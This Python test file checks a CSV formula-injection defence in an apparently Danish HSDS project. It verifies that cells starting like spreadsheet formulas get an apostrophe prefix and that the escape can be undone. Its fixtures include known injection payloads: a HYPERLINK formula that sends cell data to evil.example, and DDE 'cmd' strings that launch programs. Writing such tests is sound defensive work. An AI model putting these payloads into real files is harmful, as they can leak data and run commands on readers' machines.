"""The CSV cell rule: no cell we write starts a spreadsheet formula, and ``restore`` undoes it."""
from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.hsds.helpers import opens_as_formula
from vejviser.hsds.csvcells import neutralise, restore

#: No deadline (a timing assertion would fail on a busy machine), no example database.
PROPERTY = settings(deadline=None, database=None)
#: Text that starts like a formula, or like our own escape, or both.
TRICKY_STARTS = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "''", "'=", "+4", "-1",
                                 "-2+3", "+45 ", "=-", " =", "\n=", ""])
TEXT = st.one_of(st.text(), st.builds(str.__add__, TRICKY_STARTS, st.text()))


@PROPERTY
@given(TEXT)
def test_restore_undoes_neutralise_for_any_text(text: str) -> None:
    assert restore(neutralise(text)) == text


@PROPERTY
@given(TEXT)
def test_no_written_cell_opens_as_a_formula(text: str) -> None:
    assert not opens_as_formula(neutralise(text))


@PROPERTY
@given(TEXT)
def test_text_that_is_no_formula_and_no_escape_is_written_as_it_is(text: str) -> None:
    if not opens_as_formula(text) and not text.startswith("'"):
        assert neutralise(text) == text


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik her")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A1",  # a sign and a digit, then a formula: a known payload
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
])
def test_formulas_get_an_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["+45 66 13 13 72", "-12", "-12,5", "+4566131372", "-1.234,50",
                                  "Kirkens Korshær", "", "1+1", "mail@example.org", "a=b"])
def test_numbers_phone_numbers_and_plain_text_stay_as_they_are(text: str) -> None:
    assert neutralise(text) == text


@pytest.mark.parametrize("text", ["'tis", "'", "''", "'=1+1"])
def test_text_that_starts_with_an_apostrophe_keeps_it(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text
